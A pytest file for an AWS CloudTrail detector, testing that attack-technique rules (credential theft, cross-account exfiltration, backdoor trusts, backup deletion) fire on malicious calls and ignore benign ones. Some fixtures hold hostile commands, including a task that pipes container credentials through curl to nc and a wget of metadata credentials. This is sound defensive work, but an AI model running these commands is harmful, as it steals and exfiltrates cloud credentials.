"""AWS technique checks of the third round: leaked keys, credentials read by containers,
exfiltration that keeps going (replication, exports), hidden access paths (identity
providers, GitHub trusts, instance profiles, serial console), boot scripts of notebooks,
database takeover, and the reconnaissance a stolen key gets before it is sold (mail
sending, language models). Each rule fires on the request that shows it and stays quiet on
the benign lookalikes of its kind: infrastructure-as-code, AWS services and their
service-linked roles, the console, Control Tower."""

from __future__ import annotations

from importlib import resources
from typing import Any

import orjson
import pytest
import yaml

from detector.engine import Detector
from detector.sources import ListDeadLetters, Parser
from detector.stats import RunStats
from detector.techniques import ATTRIBUTE
from tests.detector.test_techniques_aws import (
    ACCOUNT, OUTSIDE, call, parse, rules_of, tallies_of,
)
from tests.detector.test_techniques_aws_evasion_impact import TERRAFORM, _at, by_service, role

IAM, STS, ECS = "iam.amazonaws.com", "sts.amazonaws.com", "ecs.amazonaws.com"
S3, RDS, SES = "s3.amazonaws.com", "rds.amazonaws.com", "ses.amazonaws.com"
BEDROCK, SAGEMAKER = "bedrock.amazonaws.com", "sagemaker.amazonaws.com"
CONSOLE = "console.amazonaws.com"
INSTANCE = {"type": "AssumedRole", "accountId": ACCOUNT, "accessKeyId": "ASIAEXAMPLE000009",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/web-app/i-0a1b2c3d4e5f60718",
            "sessionContext": {"sessionIssuer": {"type": "Role", "userName": "web-app"},
                               "ec2RoleDelivery": "2.0"}}
SSO = role("AWSReservedSSO_Admin_0123abcd", "jane@example.com")
FEDERATED = {"type": "FederatedUser", "accountId": ACCOUNT, "accessKeyId": "ASIAEXAMPLE000010",
             "arn": f"arn:aws:sts::{ACCOUNT}:federated-user/backdoor"}
QUARANTINE_DOC = orjson.dumps({"Version": "2012-10-17", "Statement": [
    {"Effect": "Deny", "Action": ["iam:CreateAccessKey", "ec2:RunInstances"],
     "Resource": ["*"]}]}).decode()
GITHUB = f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"


def trust(condition: dict[str, Any] | None) -> str:
    statement: dict[str, Any] = {"Effect": "Allow", "Principal": {"Federated": GITHUB},
                                 "Action": "sts:AssumeRoleWithWebIdentity"}
    if condition is not None:
        statement["Condition"] = condition
    return orjson.dumps({"Version": "2012-10-17", "Statement": [statement]}).decode()


AUDIENCE = {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}}


def task(command: list[str]) -> dict[str, Any]:
    return {"family": "report-job", "containerDefinitions": [
        {"name": "main", "image": "alpine:3", "command": command}]}


def replication(account: str | None) -> dict[str, Any]:
    destination: dict[str, Any] = {"Bucket": "arn:aws:s3:::copy-of-prod"}
    if account:
        destination["Account"] = account
    return {"bucketName": "prod-data", "ReplicationConfiguration": {
        "Role": f"arn:aws:iam::{ACCOUNT}:role/replication",
        "Rule": [{"ID": "all", "Status": "Enabled", "Destination": destination}]}}


def export(owner: str | None) -> dict[str, Any]:
    params = {"tableArn": f"arn:aws:dynamodb:us-east-1:{ACCOUNT}:table/customers",
              "s3Bucket": "drop-zone", "exportFormat": "DYNAMODB_JSON"}
    if owner:
        params["s3BucketOwner"] = owner
    return params


CASES = [
    # leaked keys
    ("AWS attaches its quarantine policy",
     call("AttachUserPolicy", {"userName": "ci-bot", "policyArn":
                               "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"}, IAM,
          userIdentity=role("support-case"), userAgent="AWS Internal"),
     [("aws.key_exposed", "high", "ci-bot")]),
    ("AWS puts its inline quarantine policy",
     call("PutUserPolicy", {"userName": "ci-bot", "policyName": "AWSExposedCredentialPolicy_DO_"
                            "NOT_REMOVE", "policyDocument": QUARANTINE_DOC}, IAM,
          userAgent="aws-internal/3 aws-sdk-java/1.11.706"),
     [("aws.key_exposed", "high", "ci-bot")]),
    ("an administrator's own deny-all policy is no quarantine",
     call("PutUserPolicy", {"userName": "ci-bot", "policyName": "DenyAll",
                            "policyDocument": QUARANTINE_DOC}, IAM), []),
    ("another managed policy is no quarantine",
     call("AttachUserPolicy", {"userName": "ci-bot",
                               "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}, IAM), []),
    ("TruffleHog checks a found key",
     call("GetCallerIdentity", None, STS, userAgent="trufflehog/3.63.0"),
     [("aws.key_exposed", "medium", "AKIAEXAMPLE00000001")]),
    ("the CLI asks who it is", call("GetCallerIdentity", None, STS), []),
    ("an SDK asks who it is",
     call("GetCallerIdentity", None, STS, userAgent="Boto3/1.34.0 Python/3.12"), []),
    # credentials read by a container
    ("task reads its credentials endpoint",
     call("RegisterTaskDefinition", task(["sh", "-c", "curl 169.254.170.2"
                                          "$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc x 9"]),
          ECS),
     [("aws.container_credentials_read", "high", "report-job")]),
    ("task reads the instance metadata service",
     call("RegisterTaskDefinition", {"family": "x", "containerDefinitions": [
         {"name": "m", "entryPoint": ["wget", "-qO-", "http://169.254.169.254/latest/meta-data/"
                                      "iam/security-credentials/"]}]}, ECS),
     [("aws.container_credentials_read", "high", "x")]),
    ("ordinary task definition",
     call("RegisterTaskDefinition", task(["python", "-m", "report", "--since", "1d"]), ECS), []),
    ("task definition deployed as code",
     call("RegisterTaskDefinition", task(["sh", "-c", "curl 169.254.170.2/creds"]), ECS,
          userAgent=TERRAFORM), []),
    # exfiltration that keeps going
    ("replication to another account's bucket",
     call("PutBucketReplication", replication(OUTSIDE), S3),
     [("aws.s3_replication_external", "high", OUTSIDE)]),
    ("replication within the account", call("PutBucketReplication", replication(None), S3), []),
    ("replication to the backup account kept as code",
     call("PutBucketReplication", replication(OUTSIDE), S3, userAgent=TERRAFORM), []),
    ("table exported to another account's bucket",
     call("ExportTableToPointInTime", export(OUTSIDE), "dynamodb.amazonaws.com"),
     [("aws.dynamodb_export_external", "high", OUTSIDE)]),
    ("table exported to the account's own bucket",
     call("ExportTableToPointInTime", export(ACCOUNT), "dynamodb.amazonaws.com"), []),
    ("table export naming no owner",
     call("ExportTableToPointInTime", export(None), "dynamodb.amazonaws.com"), []),
    ("instance exported as a disk image",
     call("CreateInstanceExportTask", {"instanceId": "i-0abc", "targetEnvironment": "vmware",
                                       "exportToS3": {"s3Bucket": "drop", "diskImageFormat":
                                                      "VMDK"}}),
     [("aws.instance_exported", "medium", "i-0abc")]),
    ("image export by a service for the caller",
     call("ExportImage", {"imageId": "ami-1", "S3ExportLocation": {"S3Bucket": "b"}},
          **by_service("vmie.amazonaws.com")), []),
    # boot scripts of notebooks
    ("notebook given a lifecycle configuration",
     call("UpdateNotebookInstance", {"notebookInstanceName": "research",
                                     "lifecycleConfigName": "pwn"}, SAGEMAKER),
     [("aws.instance_user_data_modified", "medium", "research")]),
    ("lifecycle configuration scripts replaced",
     call("UpdateNotebookInstanceLifecycleConfig", {
         "notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": "HIDDEN"}]},
         SAGEMAKER),
     [("aws.instance_user_data_modified", "medium", "setup")]),
    ("notebook resized", call("UpdateNotebookInstance", {
        "notebookInstanceName": "research", "instanceType": "ml.t3.large"}, SAGEMAKER), []),
    ("notebook configured as code", call("UpdateNotebookInstance", {
        "notebookInstanceName": "research", "lifecycleConfigName": "setup"}, SAGEMAKER,
        userAgent=TERRAFORM), []),
    # databases
    ("master password reset by a script",
     call("ModifyDBInstance", {"dBInstanceIdentifier": "orders", "masterUserPassword": "****",
                               "applyImmediately": True}, RDS),
     [("aws.db_password_reset", "medium", "orders")]),
    ("master password reset in the console",
     call("ModifyDBInstance", {"dBInstanceIdentifier": "orders", "masterUserPassword": "****"},
          RDS, userAgent=CONSOLE), []),
    ("master password rotated by a service",
     call("ModifyDBCluster", {"dBClusterIdentifier": "orders", "masterUserPassword": "****"},
          RDS, **by_service("secretsmanager.amazonaws.com")), []),
    ("storage grown", call("ModifyDBInstance", {"dBInstanceIdentifier": "orders",
                                                "allocatedStorage": 200}, RDS), []),
    ("activity stream stopped",
     call("StopActivityStream", {"resourceArn": f"arn:aws:rds:us-east-1:{ACCOUNT}:cluster:orders",
                                 "applyImmediately": True}, RDS),
     [("aws.logging_disabled", "high", "orders")]),
    ("activity stream stop refused",
     call("StopActivityStream", {"resourceArn": "arn:aws:rds:us-east-1:1:cluster:orders"}, RDS,
          errorCode="AccessDenied"), []),
    ("activity stream stopped by a service-linked role",
     call("StopActivityStream", {"resourceArn": "arn:aws:rds:us-east-1:1:cluster:orders"}, RDS,
          userIdentity=role("AWSServiceRoleForRDS")), []),
    ("automated backups deleted",
     call("DeleteDBInstanceAutomatedBackup", {"dbiResourceId": "db-ABC"}, RDS),
     [("aws.data_protection_removed", "medium", "db-ABC")]),
    ("automated backups deleted as code",
     call("DeleteDBClusterAutomatedBackup", {"dbClusterResourceId": "cluster-1"}, RDS,
          userAgent=TERRAFORM), []),
    ("database firewall opened to the internet",
     call("AuthorizeDBSecurityGroupIngress", {"dBSecurityGroupName": "legacy",
                                              "cIDRIP": "0.0.0.0/0"}, RDS),
     [("aws.security_group_open", "high", "legacy:db")]),
    ("database firewall opened to one network",
     call("AuthorizeDBSecurityGroupIngress", {"dBSecurityGroupName": "legacy",
                                              "cIDRIP": "10.0.0.0/16"}, RDS), []),
    # exposure and access paths
    ("build project made public",
     call("UpdateProjectVisibility", {"projectVisibility": "PUBLIC_READ", "projectArn":
                                      f"arn:aws:codebuild:us-east-1:{ACCOUNT}:project/api"},
          "codebuild.amazonaws.com"),
     [("aws.codebuild_public", "high", "public")]),
    ("build project made private",
     call("UpdateProjectVisibility", {"projectVisibility": "PRIVATE", "projectArn": "p/api"},
          "codebuild.amazonaws.com"), []),
    ("serial console enabled",
     call("EnableSerialConsoleAccess", {}, awsRegion="eu-west-1"),
     [("aws.serial_console_enabled", "medium", "eu-west-1")]),
    ("serial console enabled as code",
     call("EnableSerialConsoleAccess", {}, userAgent=TERRAFORM), []),
    ("SAML provider replaced by a script",
     call("UpdateSAMLProvider", {"sAMLProviderArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/okta",
                                 "sAMLMetadataDocument": "<x/>"}, IAM),
     [("aws.identity_provider_changed", "medium",
       f"arn:aws:iam::{ACCOUNT}:saml-provider/okta")]),
    ("OIDC provider added by a script",
     call("CreateOpenIDConnectProvider", {"url": "https://token.evil.example"}, IAM),
     [("aws.identity_provider_changed", "medium", "https://token.evil.example")]),
    ("SAML provider made by IAM Identity Center",
     call("CreateSAMLProvider", {"name": "AWSSSO_0123_DO_NOT_DELETE"}, IAM,
          userIdentity=role("AWSServiceRoleForSSO")), []),
    ("SAML provider added in the console",
     call("CreateSAMLProvider", {"name": "okta"}, IAM, userAgent=CONSOLE), []),
    ("OIDC provider added as code",
     call("CreateOpenIDConnectProvider", {"url": "https://token.actions.githubusercontent.com"},
          IAM, userAgent=TERRAFORM), []),
    ("SAML provider added by an administrator's SSO session",
     call("CreateSAMLProvider", {"name": "okta"}, IAM, userIdentity=SSO), []),
    ("instance profile replaced by a script",
     call("ReplaceIamInstanceProfileAssociation", {"ReplaceIamInstanceProfileAssociationRequest": {
         "IamInstanceProfile": {"Name": "admin-profile"}, "AssociationId": "iip-assoc-1"}}),
     [("aws.instance_profile_swapped", "medium", "admin-profile")]),
    ("instance profile associated by a script",
     call("AssociateIamInstanceProfile", {"AssociateIamInstanceProfileRequest": {
         "InstanceId": "i-0abc", "IamInstanceProfile": {
             "Arn": f"arn:aws:iam::{ACCOUNT}:instance-profile/web"}}}),
     [("aws.instance_profile_swapped", "low", "web")]),
    ("instance profile associated in the console",
     call("AssociateIamInstanceProfile", {"AssociateIamInstanceProfileRequest": {
         "InstanceId": "i-0abc", "IamInstanceProfile": {"Name": "web"}}}, userAgent=CONSOLE),
     []),
    ("instance profile associated by Systems Manager's quick setup role",
     call("AssociateIamInstanceProfile", {"AssociateIamInstanceProfileRequest": {
         "InstanceId": "i-0abc", "IamInstanceProfile": {"Name": "ssm"}}},
          **by_service("ssm.amazonaws.com")), []),
    ("instance profile associated by a StackSets role",
     call("AssociateIamInstanceProfile", {"InstanceId": "i-0abc", "IamInstanceProfile": {
         "Name": "ssm"}}, userIdentity=role("stacksets-exec-0a1b")), []),
    ("ECR images replicated to another account",
     call("PutReplicationConfiguration", {"replicationConfiguration": {"rules": [
         {"destinations": [{"region": "us-west-2", "registryId": OUTSIDE}]}]}},
          "ecr.amazonaws.com"),
     [("aws.ecr_repository_shared", "high", OUTSIDE)]),
    ("ECR images replicated to another region of the account",
     call("PutReplicationConfiguration", {"replicationConfiguration": {"rules": [
         {"destinations": [{"region": "us-west-2", "registryId": ACCOUNT}]}]}},
          "ecr.amazonaws.com"), []),
    ("block on public snapshots turned off",
     call("DisableSnapshotBlockPublicAccess", {}, awsRegion="us-east-1"),
     [("aws.data_protection_removed", "high", "us-east-1")]),
    ("block on public images turned off as code",
     call("DisableImageBlockPublicAccess", {}, userAgent=TERRAFORM), []),
    ("domain moved to another AWS account",
     call("TransferDomainToAnotherAwsAccount", {"domainName": "example.com",
                                                "accountId": OUTSIDE},
          "route53domains.amazonaws.com"),
     [("aws.domain_transfer", "high", "example.com")]),
    ("domain transfer lock removed",
     call("DisableDomainTransferLock", {"domainName": "example.com"},
          "route53domains.amazonaws.com"),
     [("aws.domain_transfer", "medium", "example.com")]),
    ("domain transfer lock removed as code",
     call("DisableDomainTransferLock", {"domainName": "example.com"},
          "route53domains.amazonaws.com", userAgent=TERRAFORM), []),
    ("trust anchor given another certificate authority",
     call("UpdateTrustAnchor", {"trustAnchorId": "ta-1", "source": {
         "sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": "x"}}},
          "rolesanywhere.amazonaws.com"),
     [("aws.roles_anywhere_trust_anchor", "high", "ta-1")]),
    ("trust anchor renamed",
     call("UpdateTrustAnchor", {"trustAnchorId": "ta-1", "name": "partners"},
          "rolesanywhere.amazonaws.com"), []),
    ("VPC peered with another account",
     call("CreateVpcPeeringConnection", {"vpcId": "vpc-1", "peerVpcId": "vpc-9",
                                          "peerOwnerId": OUTSIDE}),
     [("aws.vpc_peering_external", "medium", OUTSIDE)]),
    ("VPC peered within the account",
     call("CreateVpcPeeringConnection", {"vpcId": "vpc-1", "peerVpcId": "vpc-2"}), []),
    ("VPC peered with the shared-services account as code",
     call("CreateVpcPeeringConnection", {"vpcId": "vpc-1", "peerOwnerId": OUTSIDE},
          userAgent=TERRAFORM), []),
    ("backup recovery point deleted",
     call("DeleteRecoveryPoint", {"backupVaultName": "prod", "recoveryPointArn": "arn:rp/1"},
          "backup.amazonaws.com"),
     [("aws.data_protection_removed", "medium", "arn:rp/1")]),
    ("recovery point expired by AWS Backup",
     call("DeleteRecoveryPoint", {"recoveryPointArn": "arn:rp/1"}, "backup.amazonaws.com",
          **by_service("backup.amazonaws.com")), []),
    ("DynamoDB backup deleted",
     call("DeleteBackup", {"backupArn": "arn:b/1"}, "dynamodb.amazonaws.com"),
     [("aws.data_protection_removed", "medium", "arn:b/1")]),
    ("backup vault removed as code",
     call("DeleteBackupVault", {"backupVaultName": "prod"}, "backup.amazonaws.com",
          userAgent=TERRAFORM), []),
    # GitHub trusts
    ("role trusts every GitHub workflow",
     call("CreateRole", {"roleName": "deploy", "assumeRolePolicyDocument": trust(AUDIENCE)},
          IAM),
     [("aws.role_trust_external", "high", "public")]),
    ("role trusts any repository by wildcard",
     call("UpdateAssumeRolePolicy", {"roleName": "deploy", "policyDocument": trust(
         {"StringLike": {"token.actions.githubusercontent.com:sub": "repo:*"}})}, IAM),
     [("aws.role_trust_external", "high", "public")]),
    ("role trusts one repository",
     call("CreateRole", {"roleName": "deploy", "assumeRolePolicyDocument": trust(
         {**AUDIENCE, "StringLike": {"token.actions.githubusercontent.com:sub":
                                     "repo:acme/api:ref:refs/heads/main"}})}, IAM), []),
    ("role trusting one repository made as code",
     call("CreateRole", {"roleName": "deploy", "assumeRolePolicyDocument": trust(
         {"StringLike": {"token.actions.githubusercontent.com:sub": ["repo:acme/*"]}})}, IAM,
          userAgent=TERRAFORM), []),
    # IAM changed by an instance's own role
    ("instance role creates a user",
     call("CreateUser", {"userName": "support2"}, IAM, userIdentity=INSTANCE),
     [("aws.instance_role_iam_change", "medium", "i-0a1b2c3d4e5f60718")]),
    ("instance role creates a key for another user",
     call("CreateAccessKey", {"userName": "deployer"}, IAM, userIdentity=INSTANCE),
     [("aws.access_key_for_other_user", "medium", "deployer"),
      ("aws.instance_role_iam_change", "medium", "i-0a1b2c3d4e5f60718")]),
    ("terraform on a build instance creates a user",
     call("CreateUser", {"userName": "svc"}, IAM, userIdentity=INSTANCE, userAgent=TERRAFORM),
     []),
    ("a CI role creates a user", call("CreateUser", {"userName": "svc"}, IAM,
                                      userIdentity=role("ci-deployer", "gha-123")), []),
    ("instance role reads IAM", call("GetUser", {"userName": "svc"}, IAM, userIdentity=INSTANCE),
     []),
    # Lambda code replaced by a federated user
    ("function code replaced by a federated user",
     call("UpdateFunctionCode20150331v2", {"functionName": "billing"}, "lambda.amazonaws.com",
          userIdentity=FEDERATED),
     [("aws.lambda_code_replaced", "medium", "billing")]),
    ("function code replaced by a CI role",
     call("UpdateFunctionCode20150331v2", {"functionName": "billing"}, "lambda.amazonaws.com",
          userIdentity=role("ci-deployer")), []),
    # root's service-linked roles
    ("root turns a service on",
     call("CreateServiceLinkedRole", {"aWSServiceName": "s3.amazonaws.com"}, IAM,
          userIdentity={"type": "Root", "accountId": ACCOUNT,
                        "arn": f"arn:aws:iam::{ACCOUNT}:root"}), []),
]


@pytest.mark.parametrize("rec, expected", [(r, e) for _, r, e in CASES],
                         ids=[name for name, _, _ in CASES])
def test_rule_fires_on_its_evidence_only(rec: dict, expected: list) -> None:
    assert rules_of(rec) == expected


def test_refused_password_reset_is_an_attempt() -> None:
    rec = call("ModifyDBInstance", {"dBInstanceIdentifier": "orders",
                                    "masterUserPassword": "****"}, RDS, errorCode="AccessDenied")
    assert rules_of(rec) == [("aws.db_password_reset", "low", "orders")]


TALLY_CASES = [
    ("SES quota asked", call("GetSendQuota", None, SES, awsRegion="us-east-1"),
     [("aws.ses_probing", ("GetSendQuota in us-east-1",), False)]),
    ("SES identities listed in the console",
     call("ListIdentities", {"identityType": "EmailAddress"}, SES, userAgent=CONSOLE), []),
    ("SES quota asked by a service", call("GetSendQuota", None, SES,
                                          **by_service("ses.amazonaws.com")), []),
    ("Cognito's ListIdentities is no SES call",
     call("ListIdentities", {"identityPoolId": "p"}, "cognito-identity.amazonaws.com"), []),
    ("API Gateway's GetAccount is no SES call",
     call("GetAccount", None, "apigateway.amazonaws.com"), []),
    ("SMS sandbox status asked", call("GetSMSSandboxAccountStatus", None, "sns.amazonaws.com"),
     [("aws.sms_probing", ("GetSMSSandboxAccountStatus",), False)]),
    ("topic published", call("Publish", {"topicArn": "t"}, "sns.amazonaws.com"), []),
    ("Bedrock models listed", call("ListFoundationModels", None, BEDROCK),
     [("aws.llm_probing", ("ListFoundationModels",), False)]),
    ("Bedrock logging settings read by terraform",
     call("GetModelInvocationLoggingConfiguration", None, BEDROCK, userAgent=TERRAFORM), []),
    ("model invoked", call("InvokeModel", {"modelId": "anthropic.claude-v2"}, BEDROCK), []),
    ("session on an instance", call("StartSession", {"target": "i-0abc"}, "ssm.amazonaws.com"),
     [("aws.remote_command_spread", ("i-0abc",), False)]),
    ("session on an instance by terraform",
     call("StartSession", {"target": "i-0abc"}, "ssm.amazonaws.com", userAgent=TERRAFORM), []),
    ("session to a port-forwarding target", call("StartSession", {"target": "ecs:c_t"},
                                                  "ssm.amazonaws.com"), []),
]


@pytest.mark.parametrize("rec, expected", [(r, e) for _, r, e in TALLY_CASES],
                         ids=[name for name, _, _ in TALLY_CASES])
def test_burst_requests_are_tallied(rec: dict, expected: list) -> None:
    assert tallies_of(rec) == expected


def _titles(records: list[dict[str, Any]], rule: str) -> list[str]:
    parser = Parser(stats=RunStats(), dead_letters=ListDeadLetters())
    events = parser.feed(b"".join(orjson.dumps(r) + b"\n" for r in records), "t")
    events += parser.finish()
    detector = Detector({}, stats=RunStats())
    alerts = [a for e in sorted(events, key=lambda e: e.ts) for a in detector.process(e)]
    return [a.to_native()["title"] for a in alerts if f"technique.{rule}" in a.detectors]


def test_ses_sweep_alerts_a_mailer_asking_its_quota_does_not() -> None:
    mailer = [_at(i, call("GetSendQuota", None, SES), i) for i in range(6)]
    assert _titles(mailer, "aws.ses_probing") == []
    sweep = [_at(i, call(name, None, SES), i) for i, name in enumerate(
        ("GetAccountSendingEnabled", "GetSendQuota", "ListIdentities"))]
    titles = _titles(sweep, "aws.ses_probing")
    assert len(titles) == 1 and "3 distinct SES reconnaissance calls" in titles[0]


def test_bedrock_listing_across_regions_alerts_in_one_region_does_not() -> None:
    one = [_at(i, call("ListFoundationModels", None, BEDROCK, awsRegion="us-east-1"), i)
           for i in range(5)]
    assert _titles(one, "aws.llm_probing") == []
    sweep = [_at(i, call("ListFoundationModels", None, BEDROCK, awsRegion=region), i)
             for i, region in enumerate(("us-east-1", "us-west-2", "eu-central-1"))]
    assert len(_titles(sweep, "aws.llm_probing")) == 1


def test_every_attack_id_is_defined_in_the_catalogue() -> None:
    data = yaml.safe_load(resources.files("detector").joinpath(
        "data/sensitive_actions.yaml").read_text())
    used = {t for _, rec, _ in CASES + TALLY_CASES for event in parse(rec)
            for f in event.attributes.get(ATTRIBUTE, ()) for t in f.attack}
    assert {"T1526", "T1552.005", "T1484.002"} <= used
    assert used <= set(data["techniques"]), used - set(data["techniques"])
